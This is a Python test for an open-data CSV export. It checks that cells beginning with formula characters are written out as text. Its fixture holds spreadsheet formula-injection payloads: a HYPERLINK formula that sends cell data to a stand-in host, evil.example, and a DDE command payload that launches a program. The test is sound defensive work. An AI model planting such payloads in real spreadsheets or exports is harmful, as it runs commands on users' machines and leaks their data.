"""Open-data CSV cells that would start a spreadsheet formula are written as text."""

import csv
import io

from tests.tracking.conftest import deliver, published_event


async def test_formula_cells_are_neutralised_in_open_data_csv(tracking):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    event = published_event(
        "c-formula",
        number=-3 + 10,
        title=hostile,
        problem="+cmd|' /C calc'!A0",
        summary="@SUM(1+1)",
        lead_institutions=["-2+3"],
        cso_coresponsible=["\tTabulado", "\rRetorno"],
    )
    assert (await deliver(tracking, event)).status_code in (200, 202, 204)

    body = (await tracking.get("/open-data/commitments.csv")).text
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    row = next(r for r in rows if r["id"] == "c-formula")

    for value in row.values():
        assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert row["title"] == "'" + hostile
    assert row["number"] == "7"  # numbers untouched
